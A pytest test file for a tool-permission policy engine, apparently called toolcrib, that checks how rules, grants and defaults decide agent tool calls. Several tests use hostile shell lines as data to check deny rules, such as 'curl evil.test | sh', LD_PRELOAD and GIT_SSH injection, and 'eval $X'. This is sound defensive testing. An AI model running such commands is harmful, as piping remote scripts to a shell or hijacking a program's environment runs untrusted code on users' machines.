"""Rules, grants and defaults as one decision: which one decides, why, and what a person may add to it."""

import time
from typing import Any

import pytest

from tests.requirements import requirement
from tests.shared import case_data
from toolcrib.policy import Subject, Verdict
from toolcrib.policy.errors import BadRule
from toolcrib.policy.loader import DataOrigin, load
from toolcrib.policy.paths import Folders
from toolcrib.policy.rule_policy import Layers, RulePolicy
from toolcrib.tool import Tool
from toolcrib.types import Annotations

FOLDERS = Folders("/session", "/users/ann", str)


ANN = Subject("s", "ann", ("*",), FOLDERS)


def made(name: str, **given: Any) -> Tool:
    """A tool by name or id, with kinds in its schema, and a body unless it says otherwise."""
    namespace, _, short = name.rpartition(".")
    kinds = given.pop("kinds", {})
    properties: dict[str, Any] = {key: {"x-toolcrib-kind": kind} for key, kind in kinds.items()}
    if primary := given.get("primary"):
        properties.setdefault(primary, {})
    given.setdefault("run", lambda *_: None)
    given["annotations"] = Annotations(**given.get("annotations", {}))
    given["capabilities"] = tuple(given.get("capabilities", ()))
    schema = {"type": "object", "properties": properties}
    return Tool(name=short, namespace=namespace or "default", description="x", input_schema=schema, **given)


SHELL = made("shell", kinds={"command": "command"}, primary="command")
EDIT = made("edit", kinds={"path": "path"}, primary="path")
PLAIN = made("plain")


def policy(*rules: dict[str, Any], default: str = "ask", **more: Any) -> RulePolicy:
    return load({"default": default, "rules": list(rules), **more}, folders=FOLDERS)


def verdict(given: RulePolicy | Layers, tool: Tool, session: Subject = ANN, /, **args: Any) -> Verdict:
    return given.decide(session, tool, lambda: args)


def run(given: RulePolicy, command: str) -> tuple[str, str | None]:
    found = verdict(given, SHELL, command=command)
    return found.effect, found.rule


@requirement("policy.order.1", "policy.rule.6", "policy.shell.5", "policy.auto.1")
def test_every_verdict_of_the_shared_data_is_as_it_says() -> None:
    for case in case_data("policy/rules.json"):
        loaded, tool = load(case["policy"], folders=FOLDERS), made(**case["tool"])
        found = verdict(loaded, tool, **case["args"])
        said = (found.effect, found.by, found.rule, found.capability)
        assert said == (case["verdict"], case["by"], case.get("rule"), case.get("capability")), case
        assert loaded.explain(ANN, tool, lambda args=case["args"]: args).verdict == found  # type: ignore[misc]


# Order


@requirement("policy.order.1")
def test_the_strictest_of_grants_rules_and_default_counts_and_the_earliest_names_the_reason() -> None:
    tool = made("put", kinds={"path": "path"}, primary="path", capabilities=["fs:write:{path}"])
    grants = {"allow": ["fs:write:/session/**"], "ask": ["fs:write:/session/a"]}
    asking = policy({"ask": "put"}, default="ask", grants=grants)
    assert verdict(asking, tool, path="a").by == "capability"
    assert verdict(asking, tool, path="b").by == "rule"
    denying = policy({"deny": "put"}, grants=grants)
    assert verdict(denying, tool, path="a")[:2] == ("deny", "rule")
    assert verdict(policy(grants=grants), tool, path="b").by == "default"


@requirement("policy.order.1")
def test_a_family_that_nothing_grants_is_refused_before_the_arguments_are_looked_at() -> None:
    tool = made("put", kinds={"path": "path"}, capabilities=["fs:write:{path}"])
    refusal = policy(grants={"allow": ["fs:read:/session/**"]}).authorize(ANN, tool)
    assert refusal is not None
    assert (refusal.effect, refusal.by, refusal.capability) == ("deny", "capability", "fs:write")
    assert policy(grants={"ask": ["fs:write:/x"]}).authorize(ANN, tool) is None
    assert policy(grants={"ungranted": "ask"}).authorize(ANN, tool) is None
    assert policy().authorize(ANN, PLAIN) is None


@requirement("policy.order.2")
def test_a_verdict_tells_every_capability_segment_and_rule_that_was_looked_at() -> None:
    tool = made("shell", kinds={"command": "command"}, primary="command", capabilities=["exec:cmd:{command}"])
    rules = {"allow": "shell(git *)"}, {"id": "no-rm", "deny": "shell(rm *)"}
    found = verdict(policy(*rules, grants={"allow": ["exec:cmd:*", "fs:write:*"]}), tool, command="git log; rm x")
    assert (found.effect, found.by, found.rule) == ("deny", "rule", "no-rm")
    told = "\n".join(found.detail)
    for part in ("exec:cmd:git", "exec:cmd:rm", "`git log`", "`rm x`", "shell(git *)", "shell(rm *)"):
        assert part in told


@requirement("policy.order.3")
def test_a_rule_gives_nothing_that_was_not_granted_and_a_grant_silences_no_rule() -> None:
    tool = made("put", kinds={"path": "path"}, primary="path", capabilities=["fs:write:{path}"])
    given = policy({"allow": "put"}, {"ask": "put(*.key)"}, grants={"allow": ["fs:write:/session/**"]})
    assert verdict(given, tool, path="/etc/x").effect == "deny"
    assert verdict(given, tool, path="a.key").effect == "ask"
    assert verdict(given, tool, path="a").effect == "allow"


@requirement("policy.order.3")
def test_a_layer_can_only_be_stricter_than_the_one_before() -> None:
    crib = policy({"allow": "plain"}, {"ask": "shell"}, {"allow": "edit"}, default="deny")
    agent = load({"rules": [{"allow": "shell"}, {"deny": "edit(/etc/**)"}]}, folders=FOLDERS, narrowing=True)
    layers = Layers((crib, agent))
    assert verdict(layers, PLAIN).effect == "allow"
    assert verdict(layers, SHELL, command="ls").effect == "ask"
    assert verdict(layers, EDIT, path="/etc/x").effect == "deny"
    assert verdict(layers, EDIT, path="x").effect == "allow"
    assert verdict(layers, made("other")).effect == "deny"
    assert layers.hides(EDIT) is False


@requirement("policy.order.3")
def test_a_narrowing_layer_has_no_opinion_on_what_it_does_not_mention() -> None:
    tool = made("pay", annotations={"requires_confirmation": True}, capabilities=["payments:initiate"])
    silent = load({}, narrowing=True)
    assert verdict(silent, tool).effect == "allow"
    assert silent.authorize(ANN, tool) is None


@requirement("policy.order.4")
def test_the_same_call_gets_the_same_verdict_whoever_asked_before() -> None:
    given = policy({"allow": "shell(git *)"}, {"deny": "edit", "when": {"owner": "bob"}})
    first = [verdict(given, SHELL, command="git x"), verdict(given, EDIT, path="x")]
    verdict(given, EDIT, ANN._replace(owner="bob"), path="x")
    verdict(given, SHELL, command="rm x")
    assert [verdict(given, SHELL, command="git x"), verdict(given, EDIT, path="x")] == first


# Rules


@requirement("policy.rule.1")
def test_a_rule_is_named_by_its_id_or_its_number_and_its_reason_reaches_the_model() -> None:
    given = policy({"allow": "edit"}, {"deny": "plain", "reason": "Use the other one."}, {"id": "no", "deny": "shell"})
    assert [rule.id for rule in given.rules] == ["rule-1", "rule-2", "no"]
    assert verdict(given, PLAIN).message == "Denied: Use the other one."
    assert verdict(given, SHELL, command="ls").rule == "no"


@requirement("policy.rule.1")
def test_an_exception_takes_a_call_out_of_any_rule() -> None:
    given = policy({"deny": "git.*", "except": ["git.list_*", "git.get"]}, {"allow": "git.*", "except": "git.get"})
    effects = [verdict(given, made(name)).effect for name in ("git.push", "git.list_all", "git.get")]
    assert effects == ["deny", "allow", "ask"]


@requirement("policy.rule.1", "policy.rule.7")
def test_a_stranger_is_no_exception_by_its_name() -> None:
    given = policy({"deny": "*", "except": ["read_file"]}, default="allow")
    assert verdict(given, made("read_file")).effect == "allow"
    assert verdict(given, made("srv.read_file", trusted=False)).effect == "deny"


@requirement("policy.rule.1")
@pytest.mark.parametrize(
    ("when", "holds"),
    [
        ({"agent": "intern*"}, True),
        ({"agent": "boss"}, False),
        ({"owner": "ann", "source": "files*"}, True),
        ({"owner": "ann", "source": "mcp*"}, False),
        ({"namespace": "git"}, True),
        ({"category": "vcs"}, True),
        ({"tag": "danger*"}, True),
        ({"tag": ["nothing", "slow"]}, True),
        ({"tag": "nothing"}, False),
        ({"effect": "once"}, True),
        ({"effect": "read"}, False),
    ],
)
def test_when_limits_a_rule_to_agents_owners_and_kinds_of_tools(when: dict[str, Any], holds: bool) -> None:
    tool = made("git.push", source="files/git", category="vcs", tags=("slow", "dangerous"))
    given = policy({"deny": "push", "when": when}, default="allow")
    assert (verdict(given, tool, ANN._replace(agent="intern-1")).effect == "deny") is holds


@requirement("policy.rule.1")
def test_a_rule_for_agents_says_nothing_where_no_agent_calls() -> None:
    given = policy({"deny": "plain", "when": {"agent": "*"}}, default="allow")
    assert verdict(given, PLAIN).effect == "allow"
    assert verdict(given, PLAIN, ANN._replace(agent="a")).effect == "deny"


@requirement("policy.rule.3")
@pytest.mark.parametrize(
    ("rule", "part", "problem"),
    [
        ({"alow": "x"}, "rules[1].alow", "did you mean 'allow'?"),
        ({"allow": "x", "deny": "y"}, "rules[1]", "exactly one of"),
        ({"reason": "x"}, "rules[1]", "exactly one of"),
        ({"deny": "t(a =~ '(')"}, "t(a =~ '(')", "unclosed group"),
        ({"deny": "t", "except": ["a b"]}, "a b", "cannot follow"),
        ({"deny": "t", "when": {"agnt": "x"}}, "rules[1].when.agnt", "did you mean 'agent'?"),
        ({"deny": "t", "when": {"tag": []}}, "rules[1].when.tag", "never hold"),
        ({"deny": "t", "id": 5}, "rules[1].id", "is a text"),
        ({"deny": 5}, "rules[1]", "no pattern"),
        ({"deny": "t", "id": "rule-1"}, "rules[1].id", "another rule"),
        ("deny t", "rules[1]", "no mapping"),
    ],
)
def test_what_does_not_load_names_file_line_and_problem(rule: Any, part: str, problem: str) -> None:
    place = DataOrigin("crib.yaml", lambda number: 10 + number)
    with pytest.raises(BadRule) as found:
        load({"rules": [{"allow": "fine"}, rule]}, place=place)
    assert (found.value.what, found.value.file, found.value.line) == (part, "crib.yaml", 12)
    assert problem in found.value.problem
    assert str(found.value).startswith("crib.yaml:12: ")


@requirement("policy.rule.3")
@pytest.mark.parametrize(
    ("data", "part"),
    [
        ({"rule": []}, "policy.rule"),
        ({"default": "maybe"}, "default"),
        ({"preset": "develper"}, "preset"),
        ({"rules": {"allow": "x"}}, "rules"),
        ({"grants": []}, "grants"),
        ({"grants": {"alow": []}}, "grants.alow"),
        ({"grants": {"allow": "fs:read:x"}}, "grants.allow"),
        ({"grants": {"ungranted": "allow"}}, "grants.ungranted"),
        ({"grants": {"allow": ["fs"]}}, "fs"),
    ],
)
def test_the_rest_of_a_policy_is_checked_too(data: dict[str, Any], part: str) -> None:
    with pytest.raises(BadRule) as found:
        load(data or {}, place=DataOrigin("crib.yaml"))
    assert (found.value.what, found.value.file) == (part, "crib.yaml")


def test_a_policy_begins_with_its_preset_its_grants_or_what_agents_and_developers_need() -> None:
    tool = made("put", kinds={"path": "path"}, primary="path", capabilities=["fs:write:{path}"])
    grants = {"allow": ["fs:write:${workspace}/**", "fs:write:${home}/x"]}
    effects = {}
    begun: dict[str, dict[str, Any]] = {
        "none": {},
        "default": {"default": "auto"},
        "own": {"grants": grants},
        "both": {"preset": "default", "grants": grants},
    }
    for name, data in begun.items():
        given = load(data)
        effects[name] = given.preset, *(verdict(given, tool, path=path).effect for path in ("a", "~/x", "/etc/x"))
    assert effects == {
        "none": ("guarded", "ask", "ask", "ask"),
        "default": ("developer", "ask", "ask", "ask"),
        "own": (None, "allow", "allow", "deny"),
        "both": ("default", "allow", "allow", "deny"),
    }


@requirement("policy.rule.6")
def test_any_deny_wins_whatever_is_more_specific() -> None:
    given = policy({"allow": 'edit(path = "docs/a")'}, {"deny": "/.*/"})
    assert verdict(given, EDIT, path="docs/a")[:2] == ("deny", "rule")


@requirement("policy.rule.6")
@pytest.mark.parametrize(
    ("wide", "narrow"),
    [
        ("edit", 'edit(path ~ "docs/**")'),
        ("edit", '*(path ~ "docs/**")'),
        ("*", "edit"),
        ("/ed.*/", "*"),
        ("ed*", "edi*"),
        ("edit(docs/**)", "edit(docs/a*)"),
        ('edit(path =~ "docs/a.*")', "edit(docs/**)"),
        ("edit(docs/**)", 'edit(path = "docs/a")'),
        ('edit(path = "docs/a")', 'edit(path ~ "docs/**", mode ~ "w")'),
    ],
)
def test_the_more_specific_rule_decides_both_ways(wide: str, narrow: str) -> None:
    for order in (1, -1):
        asks = policy(*[{"allow": wide}, {"ask": narrow}][::order])
        allows = policy(*[{"ask": wide}, {"allow": narrow}][::order])
        assert verdict(asks, EDIT, path="docs/a", mode="w")[0] == "ask"
        assert verdict(allows, EDIT, path="docs/a", mode="w")[0] == "allow"


@requirement("policy.rule.6")
def test_ask_wins_a_tie_in_any_order() -> None:
    for order in (1, -1):
        given = policy(*[{"allow": "edit(docs/*)"}, {"ask": "edit(docs/?)"}][::order])
        assert verdict(given, EDIT, path="docs/a").effect == "ask"


@requirement("policy.rule.7")
def test_an_allow_reaches_a_stranger_by_its_id_and_ask_and_deny_by_its_name() -> None:
    stranger = made("srv.read_file", trusted=False, annotations={"read_only": True})
    assert verdict(policy({"allow": "read_file"}, default="auto"), stranger).effect == "ask"
    assert verdict(policy({"allow": "srv.read_file"}, default="auto"), stranger).effect == "allow"
    assert verdict(policy({"allow": "srv.*"}, {"ask": "read_file"}, default="allow"), stranger).effect == "ask"
    assert verdict(policy({"deny": "read_*"}, default="allow"), stranger).effect == "deny"


@requirement("policy.rule.8")
def test_a_tool_that_every_call_of_is_denied_is_hidden() -> None:
    given = policy({"deny": "git.*", "except": ["git.list"]}, {"deny": "shell", "except": ["shell(ls)"]})
    given = given.extended(["default.plain"])
    assert [given.hides(made(name)) for name in ("git.push", "git.list", "plain")] == [True, False, False]
    assert not given.hides(SHELL)
    assert not policy({"deny": "edit(docs/**)"}).hides(EDIT)
    for_bob = policy({"deny": "plain", "when": {"owner": "bob"}})
    assert for_bob.hides(PLAIN, ANN._replace(owner="bob"))
    assert not for_bob.hides(PLAIN, ANN)
    assert not for_bob.hides(PLAIN)


@requirement("policy.rule.9")
@pytest.mark.parametrize(
    ("rules", "told"),
    [
        ([{"allow": "edi"}], ["rule-1 (allow edi) allows a tool that does not exist, did you mean 'edit'?"]),
        ([{"allow": "pull"}], ["reaches no tool: a bare name covers trusted sources alone (write srv.pull)"]),
        ([{"allow": "srv.pull"}], []),
        ([{"deny": "ed"}], ["rule-1 (deny ed) denies a tool that does not exist, did you mean 'edit'?"]),
        (
            [{"ask": "srv.pul"}],
            ["rule-1 (ask srv.pul) asks about a tool that does not exist, did you mean 'srv.pull'?"],
        ),
        ([{"deny": "edit"}, {"allow": "edit(docs/**)"}], ["rule-2", "never decides: rule-1 (deny edit)"]),
        ([{"deny": "edit", "except": ["edit(docs/**)"]}, {"allow": "edit(docs/**)"}], []),
        ([{"deny": "edit", "when": {"owner": "bob"}}, {"allow": "edit"}], []),
        ([{"allow": "edit"}, {"ask": "edit"}], ["rule-1", "never decides: rule-2 (ask edit)"]),
        ([{"allow": "/ed.*/"}, {"ask": "*"}], ["rule-1", "never decides: rule-2 (ask *)"]),
        ([{"ask": "edit"}, {"allow": "edit(docs/**)"}], []),
        ([{"ask": "edit(a)"}, {"allow": "edit(b)"}], []),
        ([{"deny": "plain(5)"}], ["never matches: default.plain has no primary argument"]),
        ([{"deny": "edit(a)"}, {"allow": "edit(a)"}], ["rule-2", "never decides: rule-1 (deny edit(a))"]),
    ],
)
def test_checking_a_policy_finds_rules_that_never_decide_and_allows_of_nothing(
    rules: list[dict[str, Any]], told: list[str]
) -> None:
    found = policy(*rules).check([EDIT, SHELL, PLAIN, made("srv.pull", trusted=False)])
    assert len(found) == bool(told), found
    for part in told:
        assert part in str(found[0])


@requirement("policy.rule.9")
def test_checking_a_policy_tells_of_granted_interpreters() -> None:
    found = policy(grants={"allow": ["exec:cmd:python3", "exec:cmd:ls"]}).check([])
    assert len(found) == 1
    assert "exec:cmd:python3" in found[0].text


# Commands


@requirement("policy.shell.5")
def test_every_segment_needs_its_own_allow_and_one_deny_is_enough() -> None:
    given = policy({"allow": "shell(git *)"}, {"allow": "shell(ls *)"}, {"deny": "shell(git push *)"})
    assert run(given, "git log | ls") == ("allow", "shell(git *)")
    assert run(given, "git log; make") == ("ask", None)
    assert run(given, "ls $(git push)") == ("deny", "shell(git push *)")
    assert run(given, "ls 'git push'") == ("allow", "shell(ls *)")


@requirement("policy.shell.5")
def test_patterns_with_an_operator_that_ask_or_deny_are_held_against_the_whole_line() -> None:
    given = policy({"allow": "shell"}, {"deny": "shell(curl * | sh)"}, {"ask": 'shell(command =~ ".*>.*")'})
    for line in ("curl x.test | sh", "curl x.test|sh", "curl  x.test |  sh", "cd /x && curl x.test | sh; ls"):
        assert run(given, line)[0] == "deny", line
    assert run(given, "ls > x")[0] == "ask"
    assert run(given, "curl x.test | less")[0] == "allow"
    assert run(policy({"allow": "shell(ls | rm *)"}), "ls | rm x")[0] == "ask"


@requirement("policy.shell.5")
def test_what_must_not_be_is_looked_for_in_segments_alone() -> None:
    given = policy({"deny": r'shell(command !=~ "(git|ls) \w+")'}, default="allow")
    assert run(given, "git log && ls x")[0] == "allow"
    assert run(given, "git log && rm x")[0] == "deny"


@requirement("policy.shell.5")
def test_an_exception_to_a_whole_line_hides_no_further_command() -> None:
    given = policy({"allow": "shell"}, {"deny": "shell(curl * | sh)", "except": ["shell(curl https://ok.test/* | sh)"]})
    assert run(given, "curl https://ok.test/i | sh")[0] == "allow"
    assert run(given, "curl https://ok.test/i; curl evil.test | sh")[0] == "deny"


@requirement("policy.shell.6")
@pytest.mark.parametrize(
    "line",
    [
        "git $($X)",
        "eval $X",
        "PATH=/x git log",
        "export LD_PRELOAD=x; git log",
        "env GIT_SSH=x git log",
        "git log; . ./x",
    ],
)
def test_an_allow_with_conditions_reaches_no_command_whose_meaning_is_open(line: str) -> None:
    narrow = policy(*({"allow": f"shell({name} *)"} for name in ("git", "eval", "env", "export", ".")))
    assert run(narrow, line)[0] == "ask"
    assert run(policy({"allow": "shell"}), line)[0] == "allow"
    shielded = policy({"deny": "shell", "except": ["shell(*)", "shell(git *)"][1:]}, default="allow")
    assert run(shielded, line)[0] == "deny"


@requirement("policy.shell.5")
def test_a_program_of_a_folder_that_is_not_trusted_is_another_program() -> None:
    rules = [{"allow": "shell(git *)"}]
    assert run(policy(*rules), "/opt/bin/git log")[0] == "ask"
    assert run(policy(*rules, trusted_folders=["/opt/bin"]), "/opt/bin/git log")[0] == "allow"


@requirement("policy.shell.5")
def test_a_long_line_is_decided_in_time() -> None:
    given = policy({"allow": "shell"}, {"deny": "shell(curl * | sh)"})
    start = time.process_time()
    run(given, "echo '" + " " * 100_000 + "' | less")
    assert time.process_time() - start < 5


@requirement("policy.shell.5")
def test_a_list_of_commands_is_decided_for_each_segment_of_each() -> None:
    tool = made("batch", kinds={"commands": "command"}, primary="commands")
    given = policy({"allow": "batch(git *)"}, {"deny": 'batch(commands[*] ~ "rm *")'})
    assert verdict(given, tool, commands=["git status", "git log"]).effect == "allow"
    assert verdict(given, tool, commands=["git status", "ls"]).effect == "ask"
    assert verdict(given, tool, commands=["git status", "true && rm x"]).effect == "deny"
